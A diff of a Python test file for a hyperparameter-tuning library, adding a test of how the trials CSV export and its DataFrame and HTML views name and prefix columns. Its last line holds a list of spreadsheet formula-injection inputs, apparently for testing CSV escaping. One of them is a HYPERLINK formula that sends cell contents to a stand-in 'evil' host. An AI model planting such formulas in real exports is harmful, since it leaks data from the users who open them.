@@ -27,7 +27,7 @@ from tuner.training.data import hold_out
 from tuner.training.loop import Training
 from tuner.training.task import TrialSpec, trial_seed
 from tuner.tuning.answer.best import is_loadable, load_best
-from tuner.tuning.answer.result import save_answer
+from tuner.tuning.answer.result import SearchResult, save_answer
 from tuner.tuning.answer.writing import conclude, trials_csv
 from tuner.tuning.trial import STATE
 from tuner.views.tables import notices
@@ -397,6 +397,25 @@ def test_the_table_has_a_row_a_trial_with_where_and_why_it_stopped(searched):
     assert (rows[1]["status"], rows[1]["rung"], rows[1]["reason"]) == ("pruned", "1", 'worse, "much" worse')
     assert (rows[0]["rung"], rows[0]["epochs"], rows[0]["width"], rows[0]["lr"]) == ("", "1", "4", "0.01")
     assert float(rows[1]["best_loss"]) == float(rows[1]["last_loss"]) == 1e-9
+
+
+def test_each_column_has_a_name_of_its_own_and_ours_keep_theirs(tmp_path):
+    """In the DataFrame and its view of a notebook, too; `--start-from` reads the parameters back."""
+    config = {"epochs": 111, "status": "x", "best_loss": 7, "last_epoch": 8, "confirms": 9, "config": {"status": 10}}
+    reports = [Report(e, {"loss": 1 / e, "epoch": e / 2}, None, e) for e in (1, 2, 3)]
+    trial = TrialRecord("00000", config, "completed", "why", tuple(reports))
+    record = results.ExperimentRecord(Experiment(space="quadratic", metric="epoch"), {}, (trial,), "finished")
+    (row,) = csv.DictReader(io.StringIO(table := trials_csv(record)))
+    names = next(csv.reader(io.StringIO(table)))
+    assert len(names) == len(set(names))
+    ours = {"trial": "00000", "status": "completed", "epochs": "3", "best_epoch": "1", "reason": "why"}
+    theirs = {"config/epochs": "111", "config/config/status": "x", "config/status": "10", "config/confirms": "9"}
+    theirs |= {"config/best_loss": "7", "config/last_epoch": "8"}
+    metrics = {"metrics/best_epoch": "0.5", "last_epoch": "1.5", "best_loss": "1.0", "last_loss": repr(1 / 3)}
+    assert {name: row[name] for name in ours | theirs | metrics} == ours | theirs | metrics
+    found = SearchResult(tmp_path, "finished", record)
+    assert list(found.trials.columns) == names and found.trials["epochs"].to_list() == [3]
+    assert "<th>metrics/best_epoch</th>" in found._repr_html_() and "<td>111</td>" in found._repr_html_()
 
 
 TEXTS = ['=HYPERLINK("http://evil/?"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "'", "'=1", "", "a=b"]
